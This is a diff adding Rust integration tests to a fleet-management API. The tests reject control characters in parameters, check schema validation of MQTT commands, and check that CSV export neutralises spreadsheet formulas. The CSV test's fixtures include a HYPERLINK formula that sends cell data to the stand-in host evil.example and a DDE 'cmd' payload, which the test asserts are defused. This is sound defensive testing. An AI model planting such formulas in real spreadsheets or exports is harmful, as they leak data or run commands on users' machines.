@@ -259,3 +259,256 @@ async fn long_ranges_and_too_many_buckets_are_refused_naming_the_limit() {
     }
     svc.stop().await;
 }
+
+/// One rule for every route of the route table: a NUL (or another control character) in a
+/// path parameter or in any query parameter is a 400 problem, never a 500 from PostgreSQL.
+#[tokio::test]
+async fn a_control_character_in_any_parameter_of_any_route_is_a_400_problem() {
+    let db = TestDb::new().await;
+    let svc = InProcess::start(config(&db, BROKER)).await;
+    db.client()
+        .await
+        .execute(
+            "INSERT INTO vehicles (code, kind, tank_g, speed_cap_kmh, km_per_g) \
+             VALUES ('XY-B0001', 'bike', 50, 23, 1.2)",
+            &[],
+        )
+        .await
+        .unwrap();
+    let http = reqwest::Client::new();
+    let mut tried = 0;
+    for op in hyfleet::api::routes::OPS {
+        let method =
+            reqwest::Method::from_bytes(op.method.as_str().to_uppercase().as_bytes()).unwrap();
+        let mut urls = Vec::new();
+        if op.path.contains("{id}") {
+            for bad in ["XY%00B0001", "1%00", "%0a"] {
+                urls.push(op.path.replace("{id}", bad));
+            }
+        }
+        let base = op.path.replace("{id}", "XY-B0001");
+        for p in op.params.iter().filter(|p| !p.in_path) {
+            urls.push(format!("{base}?{}=a%00b", p.name));
+            urls.push(format!("{base}?{}=%00", p.name));
+        }
+        for path in urls {
+            let r = http
+                .request(method.clone(), svc.url(&path))
+                .bearer_auth(TOKEN)
+                .header("content-type", "application/json")
+                .body("{}")
+                .send()
+                .await
+                .unwrap();
+            let (status, ct, body) = problem(r).await;
+            let what = format!("{} {path}", op.method.as_str());
+            assert_eq!(status, StatusCode::BAD_REQUEST, "{what}: {body}");
+            assert_eq!(ct.as_deref(), Some("application/problem+json"), "{what}");
+            tried += 1;
+        }
+    }
+    assert!(tried >= 60, "only {tried} requests");
+    // The public feeds and unknown paths follow the same rule.
+    for path in [
+        "/gbfs/gbfs.json?x=%00",
+        "/gbfs/vehicle_status.json%00",
+        "/nope%00",
+    ] {
+        let r = reqwest::get(svc.url(path)).await.unwrap();
+        assert_eq!(r.status(), StatusCode::BAD_REQUEST, "{path}");
+    }
+    // Percent-encoded text that is not a control character still works.
+    let r = get(&svc.url("/api/v1/alerts?rule=low%5Fhydrogen&vehicle=XY%2DB0001"))
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::OK);
+    svc.stop().await;
+}
+
+/// Fault codes come from firmware: in a CSV export, one that a spreadsheet would run as a
+/// formula is made text.
+#[tokio::test]
+async fn csv_export_defuses_cells_a_spreadsheet_would_run() {
+    let db = TestDb::new().await;
+    let c = config(&db, BROKER);
+    let root = c.mqtt.topic_root.clone();
+    let svc = InProcess::start(c).await;
+    let mut fw = Publisher::connect(BROKER).await;
+    let now = chrono::Utc::now();
+    let faults = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"E12\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        "\t=1",
+        "E12",
+    ];
+    for (n, f) in faults.iter().enumerate() {
+        fw.publish(
+            &format!("{root}/bike/XY-B0001/telemetry"),
+            json!({"ts": (now - chrono::Duration::seconds(60 - n as i64)).timestamp_millis(),
+                   "seq": n, "lat": 37.145, "lon": 111.781, "speed_kmh": 0.0, "h2_g": 30.0,
+                   "faults": [f]})
+            .to_string(),
+        )
+        .await;
+    }
+    fw.flush().await;
+    let client = db.client().await;
+    eventually(20, "readings stored", || async {
+        (count(&client, "SELECT count(*) FROM telemetry").await == faults.len() as i64)
+            .then_some(())
+    })
+    .await;
+    let csv = get(&svc.url("/api/v1/vehicles/XY-B0001/telemetry?format=csv"))
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    let cells: Vec<&str> = csv
+        .lines()
+        .skip(1)
+        .map(|l| {
+            let start = l.find(",\"").expect("faults are the last, quoted cell") + 2;
+            &l[start..l.len() - 1]
+        })
+        .collect();
+    assert_eq!(cells.len(), faults.len(), "{csv}");
+    for (cell, fault) in cells.iter().zip(faults) {
+        let fault = fault.replace('"', "\"\"");
+        if fault.starts_with(['=', '+', '-', '@', '\t']) {
+            assert_eq!(*cell, format!("'{fault}"), "{csv}");
+        } else {
+            assert_eq!(*cell, fault, "{csv}");
+        }
+    }
+    svc.stop().await;
+}
+
+/// What the API publishes on a `cmd` topic is valid against `schemas/command.schema.json`, for
+/// every command type, and the schema names the speed cap's argument as the API does.
+#[tokio::test]
+async fn published_commands_validate_against_the_command_schema() {
+    let db = TestDb::new().await;
+    let c = config(&db, BROKER);
+    let root = c.mqtt.topic_root.clone();
+    let svc = InProcess::start(c).await;
+    db.client()
+        .await
+        .execute(
+            "INSERT INTO vehicles (code, kind, tank_g, speed_cap_kmh, km_per_g) \
+             VALUES ('XY-B0001', 'bike', 50, 23, 1.2)",
+            &[],
+        )
+        .await
+        .unwrap();
+    let ep = hyfleet::config::parse_mqtt_url(BROKER).unwrap();
+    let (client, mut events) = rumqttc::AsyncClient::new(
+        rumqttc::MqttOptions::new(unique("bike"), ep.host, ep.port),
+        100,
+    );
+    client
+        .subscribe(
+            format!("{root}/bike/XY-B0001/cmd"),
+            rumqttc::QoS::AtLeastOnce,
+        )
+        .await
+        .unwrap();
+    let (tx, mut rx) = tokio::sync::mpsc::channel(10);
+    tokio::spawn(async move {
+        loop {
+            match events.poll().await {
+                Ok(rumqttc::Event::Incoming(rumqttc::Packet::SubAck(_))) => {
+                    let _ = tx.send(None).await;
+                }
+                Ok(rumqttc::Event::Incoming(rumqttc::Packet::Publish(p))) => {
+                    let _ = tx.send(Some(p.payload.to_vec())).await;
+                }
+                Ok(_) => {}
+                Err(_) => return,
+            }
+        }
+    });
+    assert!(rx.recv().await.unwrap().is_none(), "subscribed");
+    let mut published = Vec::new();
+    for body in [
+        json!({"type": "lock"}),
+        json!({"type": "unlock"}),
+        json!({"type": "locate"}),
+        json!({"type": "set_speed_cap", "args": {"speed_cap_kmh": 15}}),
+    ] {
+        let r = reqwest::Client::new()
+            .post(svc.url("/api/v1/vehicles/XY-B0001/commands"))
+            .bearer_auth(TOKEN)
+            .json(&body)
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(r.status(), StatusCode::ACCEPTED, "{body}");
+        let payload = tokio::time::timeout(Duration::from_secs(15), rx.recv())
+            .await
+            .expect("command within 15 s")
+            .unwrap()
+            .unwrap();
+        published.push(serde_json::from_slice::<Value>(&payload).unwrap());
+    }
+    // The name the schema used to give: the API refuses it, and so must the schema.
+    let r = reqwest::Client::new()
+        .post(svc.url("/api/v1/vehicles/XY-B0001/commands"))
+        .bearer_auth(TOKEN)
+        .json(&json!({"type": "set_speed_cap", "args": {"speed_kmh": 15}}))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
+    let mut wrong = published[3].clone();
+    wrong["args"] = json!({"speed_kmh": 15});
+    let mut lock_with_args = published[0].clone();
+    lock_with_args["args"] = json!({"speed_cap_kmh": 15});
+
+    let verdicts = validate_commands(&[
+        published[0].clone(),
+        published[1].clone(),
+        published[2].clone(),
+        published[3].clone(),
+        wrong,
+        lock_with_args,
+    ]);
+    assert_eq!(
+        verdicts,
+        [true, true, true, true, false, false],
+        "{published:#?}"
+    );
+    svc.stop().await;
+}
+
+/// Each instance validated against the committed schema by Python's `jsonschema` (pinned in
+/// tests/requirements.txt), with formats checked.
+fn validate_commands(instances: &[Value]) -> Vec<bool> {
+    let schema = concat!(env!("CARGO_MANIFEST_DIR"), "/schemas/command.schema.json");
+    let script = r#"
+import json, sys
+import jsonschema
+schema = json.load(open(sys.argv[1]))
+jsonschema.Draft202012Validator.check_schema(schema)
+v = jsonschema.Draft202012Validator(schema, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER)
+print(json.dumps([v.is_valid(i) for i in json.load(sys.stdin)]))
+"#;
+    let mut child = std::process::Command::new("python3")
+        .args(["-c", script, schema])
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+        .expect("python3 with jsonschema (tests/requirements.txt)");
+    use std::io::Write as _;
+    child
+        .stdin
+        .take()
+        .unwrap()
+        .write_all(serde_json::to_string(instances).unwrap().as_bytes())
+        .unwrap();
+    let out = child.wait_with_output().unwrap();
+    assert!(out.status.success(), "schema check failed");
+    serde_json::from_slice(&out.stdout).unwrap()
+}
